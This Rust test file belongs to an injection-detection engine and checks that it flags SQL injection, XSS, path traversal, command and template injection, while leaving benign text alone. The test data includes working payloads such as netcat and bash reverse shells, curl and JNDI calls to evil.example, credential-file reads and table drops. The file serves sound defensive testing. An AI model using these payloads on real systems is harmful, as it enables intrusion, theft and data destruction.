//! What the whole engine finds, leaves alone, and costs.

mod again;
mod databases;
mod forms;
mod interpreters;
mod properties;
mod quiet;

use super::*;

fn rule_of(value: &str) -> Option<&'static str> {
    scan(value.as_bytes(), ClassSet::USUAL).map(|finding| finding.rule)
}

fn assert_found(class: Class, values: &[&str]) {
    for value in values {
        let found = scan(value.as_bytes(), ClassSet::NONE.with(class));
        assert!(found.is_some_and(|finding| finding.class == class), "{value}: {found:?}");
    }
}

#[test]
fn every_byte_that_a_class_looks_around_at_is_a_mark() {
    for byte in 0..=255 {
        assert!(may_be_mark(byte) || TRIGGERS.at(byte, u32::MAX) == 0, "{}", byte.escape_ascii());
        assert_eq!(is_usual_mark(byte), TRIGGERS.at(byte, USUAL) != 0, "{}", byte.escape_ascii());
    }
}

#[test]
fn filler_between_the_parts_of_an_attack_hides_nothing() {
    for (before, filler, after) in [
        ("7;", " ", "cat /etc/hosts"),
        ("7$(", "\t", "cat /etc/hosts)"),
        ("7;c", "''", "at /etc/hosts"),
        ("7;/", "./", "bin/cat /etc/hosts"),
        ("<img src=x onerror", " ", "=f(7)>"),
        ("<a href=\"java", "\t", "script:f(7)\">"),
        ("", " ", "javascript:alert(7)"),
        ("javascript:/*", "a", "*/alert(7)"),
        ("<a href=&#", "0", "106;avascript:f(7)>"),
        ("<meta a=", "b", " http-equiv=refresh content='0;url=//evil.example'>"),
        ("';", " ", "alert(7)//"),
        ("';alert", " ", "(7)//"),
        ("7' union#", "a", "\nselect a,b#"),
        ("7' or ", "(", "7=7-- "),
        ("7' or ", "not ", "7=8-- "),
        ("7' or -", "~", "7=7-- "),
        ("root'", ")", "-- "),
        ("7'", ")", " or 7=7-- "),
        ("root'-- ", "a", ""),
        ("root'#", "a", ""),
        ("root' -- ", "a", ""),
        ("${${", "a", ":-j}ndi:ldap://evil.example/a}"),
        ("{{", " ", "7*7}}"),
        ("{{'", "a", "'.__class__}}"),
    ] {
        for count in [1, 13, 40, 600, 3000] {
            let value = format!("{before}{}{after}", filler.repeat(count));
            assert!(rule_of(&value).is_some(), "{before}{count} times {filler:?}{after}");
        }
    }
    for value in [
        "Ladies' -- new arrivals of the season, all sizes",
        "5' -- a length that some would call short",
        "{{ a }} and `b` }}",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_sql_in_every_context_and_dialect() {
    assert_found(
        Class::Sqli,
        &[
            "x' or 'a'='a",
            "x\" or \"a\"=\"a",
            "7 or 3=3",
            "7) or (3=3",
            "x')) or (('a'='a",
            "root'--",
            "root' #",
            "x'/*",
            "') or true--",
            "' or ''='",
            "7 and 3 between 2 and 5 or 8=8",
            "-7 union select 1,2",
            "7/**/union/**/select/**/1",
            "7 /*!50000union*/ /*!select*/ 1",
            "7e0union select 1",
            "'||(select secret from vault)||'",
            "7; drop table staff",
            "'; exec master..xp_cmdshell 'dir'--",
            "' waitfor delay '0:0:9'--",
            "7 and pg_sleep(9)",
            "7-sleep(9)",
            "7 and 8=dbms_pipe.receive_message('a',9)",
            "' and extractvalue(1,concat(1,version()))--",
            "7' order by 4-- ",
            "7 having 3=3",
            "7' group by a.b having 1=1--",
            "7,(case when 2=2 then 1 else 2 end)",
            "if(now()=sysdate(),sleep(9),0)",
            "7#x\nor#y\n3=3",
            "' xor 3=3#",
            "' && 3=3#",
            "x'='y",
            "' or name like '%a%",
            "' or 3 in (3)--",
            "7 into outfile '/tmp/x'",
            "' union select * from v$version--",
            "' and (select count(*) from all_users)>0--",
            "' and id is null; --",
        ],
    );
}

#[test]
fn finds_script_wherever_a_browser_would_run_it() {
    assert_found(
        Class::Xss,
        &[
            "<script>f(7)</script>",
            "<ScRiPt src=//evil.example>",
            "<img src=x onerror=f(7)>",
            "<svg/onload=f(7)>",
            "<b onpointerrawupdate=f(7)>",
            "\" onfocus=f(7) autofocus=\"",
            "' onmouseover='f(7)",
            "javascript:f(7)",
            "JaVa\tScRiPt:f(7)",
            "<a href=\"jav&#x09;ascript:f(7)\">",
            "<a href=javas&Tab;cript&colon;f(7)>",
            "data:text/html,<b>",
            "<iframe src=//evil.example>",
            "<object data=x>",
            "<p srcdoc=x>",
            "<div style=\"width:expression(f(7))\">",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "';alert(7)//",
            "\"-alert(7)-\"",
            "</script><b>",
            "<!ENTITY a SYSTEM \"b\">",
            "+ADw-script+AD4-f(7)",
            "<ſcript>f(7)",
            "\\x3cscript\\x3ef(7)",
            "%253Cscript%253Ef(7)",
            "PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
            "＜script＞f(7)",
            "<\0script>f(7)</\0script>",
        ],
    );
}

#[test]
fn finds_script_that_goes_on_with_an_object_or_calls_by_another_way() {
    assert_found(
        Class::Xss,
        &[
            "';window.alert(7)//",
            "'-top['al'+'ert'](7)-'",
            "';location.href='//evil.example'//",
            "');$.getScript('//evil.example')//",
            "'-import('//evil.example')-'",
            "';new Function('f(7)')()//",
            "7;document.write('<b>')",
            "alert?.(7)",
            "(alert)(7)",
            "alert.call(null,7)",
            "alert/**/(7)",
            "[7].map(alert)",
            "'-{onerror=alert}throw 7-'",
            "7;alert(7)",
            "*/alert(7)/*",
            "7-alert(7)",
            "<div @click=alert(7)>",
            "<div v-on:click=\"f(7)\">",
            "<div x-init=f(7)>",
            "<input ng-focus=f(7)>",
            "[x]( javascript:f(7))",
        ],
    );
    for value in [
        "- alert (3) people",
        "  this.set('view', View);\n  this.set('views', resolve('views'));",
        "run before [`--import`][] is read",
        "'a' + this.title",
        "\"top\", \"self\" and \"parent\".",
        "news. Then more of it",
        "ann@parent.example (mail)",
        "array.map(f)",
        "mail <ann@example.com>, see @home = (here)",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_traversal_in_every_disguise() {
    assert_found(
        Class::Path,
        &[
            "../../../a",
            "..\\..\\..\\a",
            "%2e%2e%2f%2e%2e%2f%2e%2e%2fa",
            "..%252f..%252f..%252fa",
            "..%c0%af..%c0%af..%c0%afa",
            "....//....//etc/hosts",
            "..;/..;/manager",
            "0x2e0x2e/0x2e0x2e/etc/hosts",
            "..%u2215..%u2215..%u2215a",
            "..%c0%9vetc%c0%9vhosts",
            "img/../../secret",
            "/etc/passwd%00.png",
            "file:///etc/hosts",
            "php://filter/read=x/resource=y",
            "C:\\windows\\system32\\config\\sam",
            "/proc/self/environ",
            "WEB-INF/web.xml",
            "~/.ssh/id_rsa",
        ],
    );
}

#[test]
fn finds_commands_behind_separators_substitutions_and_calls() {
    assert_found(
        Class::Command,
        &[
            ";id",
            "|id",
            "a;id",
            "7 && whoami",
            "7 | dir",
            "x||ping -c 9 192.0.2.7||",
            "& type c:\\boot.ini",
            "& net user eve pw /add",
            ";c'a't /etc/hosts",
            ";c\\at /etc/hosts",
            ";cat$IFS/etc/hosts",
            ";{cat,/etc/hosts}",
            "`id`",
            "a`id`",
            "$(sleep 9)",
            "() { :;}; echo 7",
            "system('id');",
            "<?php system($_GET['c']);?>",
            "<!--#exec cmd=\"/bin/ls\"-->",
            "nc -e /bin/sh 192.0.2.7 99",
            "bash -i >& /dev/tcp/192.0.2.7/99 0>&1",
            "x\ncat /etc/hosts",
            "%0Aid",
            "/usr/bin/id|",
            ";phpinfo()",
        ],
    );
}

#[test]
fn finds_commands_that_a_shell_puts_together_or_that_another_runs() {
    assert_found(
        Class::Command,
        &[
            "192.0.2.7|grep root /etc/hosts",
            "7;sed p /etc/hosts",
            "7;openssl s_client -connect x:9",
            "7;kill -9 7",
            "x;A=7 cat /etc/hosts",
            "x;env A=7 cat /etc/hosts",
            "x;timeout 5 cat /etc/hosts",
            "192.0.2.7&who^ami",
            "7|c^at x",
            "7;who$()ami",
            "7;$'cat' /etc/hosts",
            "7;/b?n/c?t /etc/hosts",
            "7;${PATH:0:7}bin",
            "7;$0<<<id",
            "7$(which cat) /etc/hosts",
            "7<(curl http://evil.example)",
            "7&&echo x",
        ],
    );
    for value in [
        "session=abc; theme=dark; a=7 b",
        "lang=en; note=see the cat",
        "it was short; python was left out of it, see the notes",
        "costs $0.99; or less",
        "a|b^c",
        "x > (time), y < (top)",
        "$(MAKE) and $(document)",
        "${name:-none} and ${a:b}",
        "where? /a?b/ or so",
        "https://x.example/?a=1&b=2 cat -x",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_what_a_template_engine_would_run() {
    assert_found(
        Class::Template,
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:x}",
            "{{7*7}}",
            "${7*7}",
            "#{ 7 * 7 }",
            "<%= 7*7 %>",
            "{{''.__class__.__mro__}}",
            "{{ user.__class__ }}",
            "Hello {{config.__class__}}",
            "${T(java.lang.Runtime).getRuntime()}",
            "{{request|attr('x')}}",
            "{% import os %}{{os.system('id')}}",
            "${\"freemarker.template.utility.Execute\"?new()('id')}",
        ],
    );
}

#[test]
fn finds_names_of_files_and_of_templates_that_give_settings_away() {
    assert_found(
        Class::Path,
        &[
            "/.env",
            "/.git/config",
            ".git/HEAD",
            "/srv/www/wp-config.php",
            "META-INF/context.xml",
            "\\etc\\passwd",
            "index.php::$DATA",
            "x.php%00.jpg",
            "compress.bzip2://x",
            "data:text/plain;base64,PD9waHAgZigpOz8+",
        ],
    );
    assert_found(
        Class::Template,
        &[
            "{{config['SECRET_KEY']}}",
            "{{settings.SECRET_KEY}}",
            "{{request.environ}}",
            "{{['id']|sort('system')}}",
            "<#assign x=7>",
            "{$smarty.version}",
            "${ jndi:ldap://evil.example/a}",
            "${j${x:-n}di:ldap://evil.example/a}",
        ],
    );
    for value in [
        ".env",
        "wp-config.php",
        ".gitignore",
        "git@example.com:a/b.git",
        "/a/b.git/info/refs",
        "{{settings.name}} and {{config.title}}",
        "<# of items>",
        "{$name}",
        "${a:-${b:-c}}",
        "`${n} of ${count}`",
        "std::vector::data",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_an_attack_in_the_middle_of_a_long_value() {
    for (prose, attack) in [
        ("It's a long story, and then (so they say) it went on. ", "x' union select name, secret from staff-- "),
        ("A plain sentence follows another one. ", "<img src=x onerror=f(7)>"),
        ("Nothing to see here; move on. ", "../../../../etc/shadow"),
    ] {
        let mut value = prose.repeat((1 << 19) / prose.len());
        value.push_str(attack);
        value.push_str(&prose.repeat((1 << 19) / prose.len()));
        assert!(rule_of(&value).is_some(), "{attack}");
        assert_eq!(rule_of(&prose.repeat(1000)), None, "{prose}");
    }
}

/// Attacks of every usual class, each found by itself.
const ATTACKS: &[&str] = &[
    "x' union select name, secret from staff-- ",
    "nobody' or 'a'='a",
    "7; drop table staff-- ",
    "7 and pg_sleep(9)",
    "'||(select secret from vault)||'",
    "' or id is null; --",
    "<img src=x onerror=f(7)>",
    "<script>f(7)</script>",
    "<a href=\"javascript:f(7)\">",
    "%3Csvg%2Fonload%3Df(7)%3E",
    "&lt;script&gt;f(7)&lt;/script&gt;",
    "../../../../etc/shadow",
    "..%252f..%252f..%252fetc%252fpasswd",
    "; cat /etc/hosts ;",
    "$(curl http://evil.example/x)",
    "${jndi:ldap://evil.example/a}",
    "{{''.__class__.__mro__}}",
];

/// What a value is filled with around an attack: prose, and what makes every part of the engine look.
#[rustfmt::skip]
const FILLINGS: &[&str] = &[
    "A plain sentence follows another one. ", "It's a long story, and then (so they say) it went on; R&B. ", "a,b,c,1,2,3\n",
    "<p class=\"a\">text &amp; more</p>\n", "{\"a\":1,\"b\":[true,null]},", "='", "'", "' '", "\"-\"", "(((", "or ", "|", "&", "&amp;amp;",
    "%25", "%2541 ", "/a/../b ", ";x ", "-- \n", "#\n", "/* */", "a='b'&", "; ''", "<b>", "{{a}} ", "\\n", "\u{2019}",
];

#[test]
fn excluded_rules_and_classes_hide_only_themselves() {
    let value = b"<img src=x onerror=alert(7)>' or 'a'='a";
    let mut excluded = RuleSet::default();
    assert!(excluded.insert("xss-event-handler"));
    assert_eq!(scan(value, ClassSet::ALL).map(|finding| finding.rule), Some("xss-event-handler"));
    assert_eq!(scan_except(value, ClassSet::ALL, &excluded).map(|finding| finding.rule), Some("sql-tautology"));
    assert_eq!(scan(value, ClassSet::ALL.without(Class::Xss)).map(|finding| finding.rule), Some("sql-tautology"));
    assert_eq!(scan(value, ClassSet::NONE), None);
    assert_eq!(
        [Class::Xss, Class::Path].into_iter().collect::<ClassSet>(),
        ClassSet::NONE.with(Class::Path).with(Class::Xss)
    );
}

#[test]
fn the_documentation_lists_every_rule_as_the_table_has_it() {
    let page = include_str!("../../docs/injection.md");
    let mut table = String::new();
    for class in Class::ALL {
        table.push_str(&format!(
            "\n### `{}`\n\n| rule | sees | finds, for example | score |\n|---|---|---|---|\n",
            class.name()
        ));
        for doc in rules().iter().filter(|doc| doc.class == class) {
            table.push_str(&format!(
                "| `{}` | {} | `` {} `` | {} |\n",
                doc.id,
                doc.what,
                doc.example.trim().replace('|', "\\|"),
                doc.score
            ));
        }
    }
    assert!(page.contains(&table), "the page should hold:\n{table}");
}
